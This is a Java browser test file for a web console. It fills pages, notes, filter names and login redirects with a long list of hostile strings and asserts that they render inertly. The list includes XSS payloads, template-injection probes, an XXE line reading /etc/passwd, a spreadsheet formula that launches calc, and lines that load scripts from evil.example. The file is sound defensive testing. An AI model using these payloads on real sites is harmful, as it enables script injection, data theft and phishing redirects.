// SPDX-License-Identifier: Apache-2.0
package io.grundton.console;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Browser;
import io.grundton.review.Dossiers;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

/** Texts that would be scripts, elements, styles or addresses, in a browser that would obey. */
@ExtendWith(Chromium.class)
final class HostileBrowserTest {
  private static final String PAGE = "/conversations/" + Dossiers.KEY;

  /** As many as fill more than one page of the queue. */
  private static final int PLAIN = 60;

  /**
   * Of every kind that is known: by element, attribute, address, template, parser and character.
   */
  private static final List<String> TEXTS =
      Stream.concat(
              """
              <script>alert(1)</script>
              </script><script src=//evil.example/a.js></script>
              <ScRiPt >alert`1`</sCrIpT>
              <script/x>alert(1)</script/x>
              <<script>alert(1);//<</script>
              <noscript><p title="</noscript><img src=x onerror=alert(1)>">
              <img src=x onerror=alert(1)>
              <img src="x" onerror="alert(1)" alt='"'>
              <IMG SRC=x OnErRoR=alert(document.domain)>
              <image href=x onerror=alert(1)>
              <img/src/onerror=alert(1)>
              <img src=x:x onerror	=	alert(1)>
              <body onload=alert(1) onpageshow=alert(1) onhashchange=alert(1)>
              <input autofocus onfocus=alert(1) onblur=alert(1)>
              <select autofocus onfocus=alert(1)><option>x</select>
              <textarea autofocus onfocus=alert(1)></textarea>
              <details open ontoggle=alert(1)><summary>x</summary></details>
              <video autoplay oncanplay=alert(1)><source onerror=alert(1) src=x></video>
              <audio src=x onerror=alert(1)>
              <marquee onstart=alert(1)>x</marquee>
              <div onmouseover=alert(1) onpointerenter=alert(1) onwheel=alert(1)>x</div>
              <p tabindex=1 onfocusin=alert(1) onkeydown=alert(1)>x</p>
              <style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=alert(1)>x</b>
              <style>*{background:url(//evil.example/x);display:none}</style>
              <link rel=stylesheet href=//evil.example/x.css>
              <div style="position:fixed;inset:0;background:url(javascript:alert(1))">x</div>
              <svg onload=alert(1)>
              <svg><script>alert&#40;1&#41;</script></svg>
              <svg><animate onbegin=alert(1) attributeName=x dur=1s>
              <svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
              <svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
              <svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x">
              <math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">
              <math href="javascript:alert(1)">x</math>
              <a href=javascript:alert(1)>x</a>
              <a href="java	script:alert(1)">x</a>
              <a href="&#106;avascript&colon;alert(1)">x</a>
              <a href="//evil.example" ping="//evil.example" target=_blank>x</a>
              javascript:alert(1)
              javascript://%0aalert(1)//
              JaVaScRiPt&colon;alert(1)
              data:text/html,<script>alert(1)</script>
              data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
              //evil.example/%2f..
              /\\evil.example
              <iframe src=javascript:alert(1)></iframe>
              <iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>
              <object data=data:text/html,x></object><embed src=//evil.example/x.swf>
              <form action=javascript:alert(1)><button formaction=//evil.example>x</button></form>
              <button form=x formaction=javascript:alert(1)>x</button>
              <meta http-equiv=refresh content="0;url=//evil.example">
              <meta http-equiv=Content-Security-Policy content="script-src *">
              <base href=//evil.example/>
              <template><script>alert(1)</script></template>
              <div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>
              <plaintext><xmp><listing>
              <!-- --!><img src=x onerror=alert(1)> -->
              <!--><img src=x onerror=alert(1)>
              <![CDATA[<img src=x onerror=alert(1)>]]>
              <?xml version="1.0"?><?php alert(1) ?>
              <!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;
              </title></textarea></style></script></select></option><img src=x onerror=alert(1)>
              </p></mark></blockquote></li></main><script>alert(1)</script>
              "><img src=x onerror=alert(1)>
              '><img src=x onerror=alert(1)>
              `><img src=x onerror=alert(1)>
              " autofocus onfocus=alert(1) x="
              ' onmouseover='alert(1)
              x onmouseover=alert(1) y=
              "-alert(1)-" \\"-alert(1)//  '-alert(1)-'
              ${alert(1)} {{constructor.constructor('alert(1)')()}} #{7*7} *{7*7} [[${7*7}]]
              <%= 7*7 %> <% alert(1) %> @if(true)@template.layout()@endif !{var x = 1;} {% x %}
              &lt;script&gt;alert(1)&lt;/script&gt; &amp;lt; &#60;b&#62; &#x3c;i&#x3e; &nbsp;
              %3Cscript%3Ealert(1)%3C/script%3E \\u003cscript\\u003e \\x3cscript\\x3e
              +ADw-script+AD4-alert(1)+ADw-/script+AD4-
              __proto__ constructor toString
              <form id=body><input name=forms><input name=cookie><a id=document name=location>
              =HYPERLINK("//evil.example","x") @SUM(1+1)*cmd|' /C calc'!A0 +1-1
              {0} {1} {99} '{0}' %s %n %1$s
              """
                  .lines(),
              Stream.of(
                  "right \u202E to left \u2066 isolated \u200F mark",
                  "nothing \u0000 between \u0007 bells \u001B[31m escapes \u0085 \u2028 lines",
                  "no width \u200B and \uFEFF, tags \uDB40\uDC41",
                  "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E \u02BAonclick=\u02BA",
                  "Z\u0335\u0335a\u0336l\u0337g\u0338o " + "\u0301".repeat(30),
                  "a".repeat(3_000)))
          .toList();

  @TempDir private Path folder;

  @Test
  void areShownAndDoNothing(Browser browser) throws IOException {
    List<String> plain = IntStream.range(0, PLAIN).mapToObj(i -> "plain " + i).toList();
    assertThat(anatomy("hostile", browser, TEXTS)).isEqualTo(anatomy("plain", browser, plain));
  }

  private Set<String> anatomy(String name, Browser browser, List<String> texts) throws IOException {
    Path own = Files.createDirectory(folder.resolve(name));
    try (HostilePages pages = new HostilePages(own, browser, texts)) {
      pages.talks();
      pages.decisions();
      pages.addresses();
      pages.queue();
      return pages.anatomy();
    }
  }

  @Test
  void areTakenByFormsAsTheyAre(Browser browser) throws IOException {
    try (Served served = Served.with(folder, false, Dossiers.dossier());
        Window anna = Window.as("anna", browser, served)) {
      String all = String.join("\n", TEXTS.subList(0, TEXTS.size() - 1)).replace("\0", "");
      for (String part : List.of(all.substring(0, 3_500), all.substring(3_500))) {
        anna.page.navigate(PAGE + "?work=all&rule=" + FilterQuery.encoded(TEXTS.get(6)));
        anna.press("m");
        anna.find("#note textarea").fill(part);
        anna.go(() -> anna.find("#note button").click());
        assertThat(anna.notice()).isEqualTo("Note saved.");
        assertThat(anna.find(".entry .text").last().textContent())
            .isEqualTo(Visible.of(part.strip()));
        anna.mustHaveBehaved();
      }
    }
  }

  @Test
  void areNamesOfFilters(Browser browser) throws IOException {
    List<String> names =
        TEXTS.stream().filter(text -> text.length() <= 60).map(HostileDossiers::said).toList();
    try (Served served = Served.with(folder, false, Dossiers.dossier());
        Window anna = Window.as("anna", browser, served)) {
      for (String name : names.subList(names.size() - 6, names.size())) {
        anna.page.navigate("/?vendor=" + FilterQuery.encoded(names.get(0)));
        anna.find(".save > summary").click();
        anna.find(".save input[name=name]").fill(name);
        anna.go(() -> anna.find(".save button").click());
        assertThat(anna.find(".saved a").allTextContents()).contains(Visible.of(name));
        anna.mustHaveBehaved();
      }
    }
  }

  @Test
  void areNoWayIn(Browser browser) throws IOException {
    try (Served served = Served.with(folder, false, Dossiers.dossier());
        Window nobody = Window.of(browser, served)) {
      for (String text : TEXTS) {
        String encoded = FilterQuery.encoded(text).replace("+", "%20");
        String page = nobody.page.request().get("/login?next=" + encoded).text();
        assertThat(page).containsPattern("name=\"next\" value=\"/([^/\\\\][^\"]*)?\"");
      }
      nobody.page.navigate("/" + FilterQuery.encoded(TEXTS.get(6)));
      nobody.page.navigate("/login?next=" + FilterQuery.encoded(TEXTS.get(38)));
      nobody.find("input[name=login]").fill(TEXTS.get(6));
      nobody.find("input[name=password]").fill(TEXTS.get(6));
      nobody.go(() -> nobody.press("Enter"));
      assertThat(nobody.text("[role=alert]")).isEqualTo("Login or password is wrong.");
    }
  }
}
